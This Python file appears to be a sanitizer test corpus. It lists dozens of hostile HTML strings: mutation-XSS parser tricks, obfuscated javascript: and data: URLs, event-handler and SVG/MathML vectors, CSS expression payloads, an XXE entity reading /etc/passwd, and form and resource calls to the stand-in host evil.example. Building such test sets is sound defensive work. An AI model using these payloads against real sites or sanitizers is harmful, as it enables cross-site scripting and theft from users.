"""Hostile markup of our own, beside the collected samples: what cleaners have fallen for."""

EVIL = "//evil.example/x"

OURS = [
    # Mutation: text that becomes markup when it is parsed a second time
    '<svg></p><style><a title="</style><img src=x onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<svg><desc><style><img src=x onerror=alert(1)></style></desc></svg>",
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<table><tr><td><style></td></tr></table><img src=x onerror=alert(1)></style>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<pre>\n\n<textarea></pre><img src=x onerror=alert(1)></textarea>",
    # Comments, CDATA, declarations
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "]]><script>alert(1)</script><![CDATA[",
    '<?xml-stylesheet href="javascript:alert(1)"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    # Addresses
    '<a href="java&#9;script&colon;alert(1)">甲</a><a href=" &#x1;javascript:alert(1)">乙</a>',
    '<a href="JaVaScRiPt&#58;alert(1)">丙</a><a href="&#x6a&#x61vascript:alert(1)">丁</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">戊</a>',
    '<a href="vbscript:msgbox(1)">己</a><a href="blob:https://evil.example/1">庚</a>',
    f'<img src="{EVIL}" srcset="{EVIL} 1x, javascript:alert(1) 2x" sizes=1px>',
    f'<picture><source srcset="{EVIL}"><img src="/i/1/" srcset="{EVIL} 2x" lowsrc="{EVIL}" dynsrc="{EVIL}"></picture>',
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">",
    f'<img src="/i/1/" onload=alert(1) onerror=alert(1) style="background:url({EVIL})" usemap=#m>',
    # Frames, forms, heads
    '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>',
    f'<iframe src="{EVIL}"></iframe><object data="{EVIL}"></object><embed src="{EVIL}">',
    f'<meta http-equiv=refresh content="0;url={EVIL}"><base href="https:{EVIL}/">',
    f'<link rel=stylesheet href="{EVIL}"><link rel=prefetch href="{EVIL}"><link rel=dns-prefetch href="{EVIL}">',
    f'<form action="{EVIL}"><input autofocus onfocus=alert(1)><button formaction="javascript:alert(1)"></form>',
    f'<video poster="{EVIL}"><source src="{EVIL}" onerror=alert(1)></video><audio src="{EVIL}" autoplay></audio>',
    "<details open ontoggle=alert(1)><summary>x</summary></details><dialog open onclose=alert(1)>y</dialog>",
    # Style
    '<p style="width:expression(alert(1));-moz-binding:url(//evil.example/x#y)">式</p>',
    f'<p style="text-indent:2em;background:url({EVIL});behavior:url({EVIL})">样</p>',
    f"<style>@import '{EVIL}';*{{background:url({EVIL})}}</style>",
    # Vectors
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x><set attributeName=href to=javascript:alert(1)>",
    f'<svg><use href="{EVIL}#a"/><image href="{EVIL}"/><foreignObject><iframe src="{EVIL}"/></foreignObject></svg>',
    '<math href="javascript:alert(1)"><maction actiontype="statusline#javascript:alert(1)">x</maction></math>',
    # Names inside attributes, templates and data
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus='alert(1)' x='",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>{{ 7*7 }}${alert(1)}<%= x %>",
    "\u202e<img src=x onerror=alert(1)>\u0000\u000b",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    '<p id=body name=cookie class="submit-row" data-pictures="{}" contenteditable onbeforeinput=alert(1)>名</p>',
]  # fmt: skip
